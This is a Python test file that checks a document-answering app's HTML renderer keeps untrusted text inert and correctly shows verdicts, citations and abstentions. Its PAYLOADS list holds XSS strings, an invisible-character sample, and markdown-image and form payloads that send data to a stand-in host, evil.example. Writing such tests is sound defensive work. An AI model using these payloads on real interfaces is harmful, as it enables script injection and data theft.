"""What the window draws: every verdict, stage and reason is shown, and nothing that comes from outside can act."""

from __future__ import annotations

from dataclasses import replace
from html.parser import HTMLParser

import pytest

from rag import Answer, Citation, FileResult, Hit, Passage, Sentence, Verdict
from ui.conversations import Exchange
from ui.prose import escape, place, shorten
from ui.render import plain, render_exchange, render_past

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "![pixel](https://evil.example/leak.png)",
    "[click](javascript:alert(1))",
    "![a][b]\n\n[b]: https://evil.example/?q=secret",
    "<a href='javascript:alert(1)'>here</a>",
    "</mark></p><iframe src='https://evil.example'></iframe>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "${alert(1)} {{value}} `${1}`",
    "in\u202evisible \u200bzero\ufeff \U000e0041tag\x00\x1b[31m",
    "<form action='https://evil.example'><input name=q></form>",
    "\ud800 lone",
]
TAGS = set(
    "article section header footer nav div span p ul ol li h1 h2 h3 h4 h5 h6 b q button input code strong details "
    "summary progress mark table thead tr th td pre a figure img svg rect br form fieldset legend label select option "
    "dl dt dd kbd".split()
)
ATTRIBUTES = set(
    "class id type dir role lang tabindex style alt width height x y rx viewbox max value checked download aria-label "
    "aria-live aria-hidden aria-selected aria-controls aria-pressed aria-current href src name placeholder min "
    "selected disabled target rel".split()
)


class Page(HTMLParser):
    """Collects what a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.words = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.words += data

    def find(self, name: str) -> list[dict[str, str]]:
        """Return the attributes of every element of a class."""
        return [attributes for _, attributes in self.tags if name in attributes.get("class", "").split()]


def assert_inert(html: str) -> Page:
    """Fail on any element, attribute or address that the window does not draw itself."""
    page = Page(html)
    for tag, attributes in page.tags:
        assert tag in TAGS, html
        for name, value in attributes.items():
            assert name in ATTRIBUTES or name.startswith("data-"), f"{name}={value}"
            assert name != "href" or value.startswith(("original/", "conversations/"))
            assert name != "src" or value.startswith("data:image/png;base64,")
    return page


def citation(number: int = 1, quote: str = "It opens at nine.", **other: object) -> Citation:
    return replace(
        Citation(number, f"p{number}", "d1", "guide.pdf", "Guide", 10, 10 + len(quote), quote, "A > Hours", 12, "iv"),
        **other,
    )


def sentence(verdict: Verdict = Verdict.SUPPORTED, text: str = "It opens at nine.", reason: str = "") -> Sentence:
    return Sentence(text, () if verdict == Verdict.UNSUPPORTED else (citation(),), verdict, reason)


def hit(text: str = "It opens at nine.", source: str = "guide.pdf") -> Hit:
    passage = Passage("p1", "d1", source, "Guide", 0, 10, 10 + len(text), text, "A > Hours", 12, "iv")
    return Hit(passage, 1, 0.9, 1, 0.8, None, None)


def answer(*sentences: Sentence, **other: object) -> Answer:
    whole = Answer("When?", "When?", tuple(sentences), stage="done", mode="llm", final=True, confidence=0.8)
    return replace(whole, **other)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_words_from_outside_are_inert_wherever_they_stand(payload: str) -> None:
    said = Sentence(
        payload, (citation(1, payload, source=payload, heading=payload, document_id=payload),), reason=payload
    )
    whole = answer(
        said, question=payload, standalone=payload + "?", notice=payload, hits=(hit(payload, payload),), stage=payload
    )
    refused = replace(whole, abstained=payload, missing_words=(payload,))
    for one in (
        whole,
        refused,
        replace(refused, nearest=whole.citations),
        replace(whole, final=False),
        replace(whole, mode="quotes"),
    ):
        failed = (FileResult(payload, "failed", payload),)
        assert_inert(render_exchange(Exchange(one, trouble=payload, failed=failed), last=True, talk=payload))
        assert_inert(render_exchange(Exchange(one)))
    assert_inert(render_exchange(Exchange(answer(sentence(text=f"Name: {payload}; <b>: {payload}")))))


def test_labels_in_the_row_of_a_table_are_set_off() -> None:
    html = render_exchange(Exchange(answer(sentence(text="Name: Ida; Role: a cook; Hours: 7:30"))))
    assert "<b>Name:</b> Ida; <b>Role:</b> a cook; <b>Hours:</b> 7:30" in html
    long = "Average annual concentration of nitrogen dioxide"
    assert f"<b>{long}:</b> 31" in render_exchange(Exchange(answer(sentence(text=f"Station: Leeds; {long}: 31"))))
    assert "<b>" not in render_exchange(Exchange(answer(sentence(text="Note: soup; then: bread; nothing else."))))
    unnamed = render_exchange(Exchange(answer(sentence(text="Profit; 2024: 1,207; 2025: 1,731"))))
    assert "Profit; <b>2024:</b> 1,207; <b>2025:</b> 1,731" in unnamed


def test_words_are_shown_as_they_are() -> None:
    page = Page(render_exchange(Exchange(answer(sentence(text="a < b & c > d \"e\" 'f' ${g} {{h}}")))))
    assert "a < b & c > d \"e\" 'f' ${g} {{h}}" in page.words


def test_characters_that_no_reader_sees_are_taken_out() -> None:
    assert escape("a\u202eb\u200bc\U000e0041d\x00e\ud800f") == "abcdef"
    assert escape("tab\tline\n سلام 👩‍💻") == "tab\tline\n سلام 👩‍💻"


@pytest.mark.parametrize(
    ("verdict", "title"),
    [
        (Verdict.QUOTED, "Quoted"),
        (Verdict.SUPPORTED, "Supported"),
        (Verdict.PARTLY, "Partly supported"),
        (Verdict.UNSUPPORTED, "Not supported"),
        (Verdict.LEADING, "Introduction"),
    ],
)
def test_every_sentence_says_whether_it_is_supported_and_why(verdict: Verdict, title: str) -> None:
    page = Page(render_exchange(Exchange(answer(sentence(verdict, reason="ninety is not there")))))
    assert [s["class"] for s in page.find("sentence")] == [f"sentence {verdict.value}"]
    assert [b["data-tip"] for b in page.find("badge")] == [f"{title}. ninety is not there"]


def test_a_marker_carries_the_exact_place() -> None:
    [marker] = Page(render_exchange(Exchange(answer(sentence())))).find("cite")
    assert (marker["data-document"], marker["data-start"], marker["data-end"]) == ("d1", "10", "27")
    assert marker["aria-label"] == 'Source 1: guide.pdf, page 12 (printed as "iv")'
    assert "It opens at nine." in marker["data-tip"]


def test_sources_stand_below_the_answer_once_each() -> None:
    page = Page(render_exchange(Exchange(answer(sentence(), sentence()))))
    assert len(page.find("cite")) == 2
    assert len(page.find("source")) == 1
    assert "guide.pdf" in page.words
    assert 'page 12 (printed as "iv") · Hours' in page.words


def test_sources_at_the_same_place_are_told_apart_by_their_first_words() -> None:
    same = [
        replace(citation(n, quote), heading="Hours")
        for n, quote in enumerate(("It opens <b>at</b> nine.", "On Mondays the library, too, stays closed."), 1)
    ]
    other = citation(3, "Elsewhere.", heading="Rooms")
    page = Page(render_exchange(Exchange(answer(Sentence("It opens.", (*same, other), Verdict.SUPPORTED)))))
    assert len(page.find("source")) == 3 and len(page.find("start")) == 2
    assert "Hours“It opens <b>at</b> nine.”" in page.words and "“On Mondays the library, too…”" in page.words


def test_stages_are_shown_while_an_answer_is_made() -> None:
    for stage, classes in (
        ("searching", "now next next"),
        ("reading", "done now next"),
        ("answering", "done done now"),
    ):
        page = Page(render_exchange(Exchange(Answer("When?", "When?", stage=stage))))
        assert " ".join(a["class"] for tag, a in page.tags if tag == "li") == classes
    assert Exchange(Answer("When?", "When?")).live


def test_an_abstention_says_why_what_is_missing_and_what_is_near() -> None:
    none = answer(abstained="The documents do not answer this.", missing_words=("zebra",), hits=(hit(),) * 9)
    assert not Page(render_exchange(Exchange(none))).find("near"), "nothing is near no word"
    none = replace(none, standalone="When does it open?")
    page = Page(render_exchange(Exchange(none)))
    assert page.find("abstained")
    assert "The documents do not answer this." in page.words
    assert "In none of the documents: zebra." in page.words
    for named in (replace(none, missing_words=()), replace(none, abstained="In none: zebra.")):
        assert "In none of the documents" not in Page(render_exchange(Exchange(named))).words
    assert len(page.find("near")) == 4
    assert not page.find("sentence")
    assert "confidence" not in page.words
    page = Page(render_exchange(Exchange(replace(none, nearest=(citation(1, "The words that come nearest."),)))))
    assert len(page.find("near")) == 1 and "The words that come nearest." in page.words


def test_of_a_whole_document_nothing_is_sure() -> None:
    shown = [
        Page(render_exchange(Exchange(answer(sentence(), mode="quotes", confidence=sure)))).words
        for sure in (0.93, 1.0)
    ]
    assert "confidence 93%" in shown[0] and "confidence" not in shown[1]


def test_a_follow_up_shows_how_it_was_understood() -> None:
    assert "understood" not in render_exchange(Exchange(answer(sentence())))
    page = Page(render_exchange(Exchange(answer(sentence(), standalone="When does the library open?"))))
    assert "When does the library open?" in page.words


def test_trouble_ends_an_answer_and_keeps_what_was_said() -> None:
    broken = Exchange(answer(sentence(), final=False, stage="answering"), trouble="The disk is full. Free some space.")
    page = Page(render_exchange(broken, last=True))
    assert not broken.live
    assert "The disk is full. Free some space." in page.words
    assert "It opens at nine." in page.words
    assert "again" in [attributes.get("data-do") for _, attributes in page.tags]


def test_only_the_last_answer_can_be_asked_again() -> None:
    assert 'data-do="again"' not in render_past([Exchange(answer(sentence()))])


def test_the_copy_names_its_sources() -> None:
    assert plain(answer(sentence())) == (
        'When?\n\nIt opens at nine. [1]\n\n[1] guide.pdf, page 12 (printed as "iv"): “It opens at nine.”'
    )


def test_the_copy_says_what_is_not_supported() -> None:
    copied = plain(answer(sentence(Verdict.PARTLY), sentence(Verdict.UNSUPPORTED, "It has a moat.")))
    assert "\n\nIt opens at nine. (partly supported) [1] It has a moat. (not supported)\n\n" in copied
    assert "supported" not in plain(answer(sentence(Verdict.UNSUPPORTED), abstained="Nobody says."))


def test_the_evidence_stands_there_before_the_answer_is_finished() -> None:
    growing = answer(final=False, stage="reading", hits=(hit(),) * 9)
    page = Page(render_exchange(Exchange(growing)))
    assert page.find("evidence") and len(page.find("near")) == 4
    finished = replace(growing, sentences=(sentence(),), final=True, stage="done")
    assert not Page(render_exchange(Exchange(finished))).find("evidence")


def test_a_refusal_names_files_that_failed_and_says_words_once() -> None:
    none = answer(abstained="Words that occur in none of them: zebra, words.", missing_words=("zebra", "words"))
    failed = tuple(FileResult(f"{number}.pdf", "failed", f"Reason {number}.") for number in range(7))
    page = Page(render_exchange(Exchange(none, failed=failed, unread=3)))
    assert page.words.count("zebra") == 1 and len(page.find("absent")) == 2
    assert "4.pdf: Reason 4." in page.words and "5.pdf" not in page.words
    assert "5 more files could not be read. Show them" in page.words
    page = Page(render_exchange(Exchange(none, unread=1)))
    assert "1 file could not be read. Show it" in page.words and "Not read" not in page.words


def test_an_answer_names_a_file_that_may_say_more() -> None:
    failed = (FileResult("hours.pdf", "failed", "hours.pdf is damaged."),)
    page = Page(render_exchange(Exchange(answer(sentence()), failed=failed)))
    assert page.find("sentence") and "hours.pdf is damaged." in page.words and "could not be read" not in page.words
    assert not Page(render_exchange(Exchange(answer(sentence())))).find("unread")


def test_what_a_person_thinks_is_shown() -> None:
    page = Page(render_exchange(Exchange(answer(sentence()), thumb="bad", wrong=(1,)), 3))
    assert [(t["data-thumb"], t["aria-pressed"]) for t in page.find("thumb")] == [("good", "false"), ("bad", "true")]
    assert [(m["data-turn"], m["data-number"]) for m in page.find("wrong")] == [("3", "1")] * 2


def test_questions_can_be_edited_once_they_are_settled() -> None:
    whole = answer(sentence(), standalone="When does the library open?")
    edits = Page(render_exchange(Exchange(whole), 2)).find("edit")
    assert [(e["data-turn"], e["data-what"], e["data-words"]) for e in edits] == [
        ("2", "question", "When?"),
        ("2", "standalone", "When does the library open?"),
    ]
    assert not Page(render_exchange(Exchange(replace(whole, final=False)))).find("edit")


def test_only_the_last_answer_can_be_undone() -> None:
    assert 'data-do="undo"' not in render_past([Exchange(answer(sentence()))])
    assert 'data-do="undo"' in render_exchange(Exchange(answer(sentence())), last=True)


def test_places_and_lengths() -> None:
    assert place("a.md", "", None, None) == ""
    assert place("a.pdf", "A > B", 3, "3") == "page 3 · B"
    assert place("a.pdf", "A", 3, "iii") == 'page 3 (printed as "iii") · A'
    assert place("a.xlsx", "Prices", 2, "Prices") == "sheet 2: Prices"
    assert place("a.PPTX", "Aims", 4, "4") == "slide 4 · Aims"
    assert shorten("one two\nthree", 99) == "one two three"
    assert shorten("one two three", 9) == "one two…"
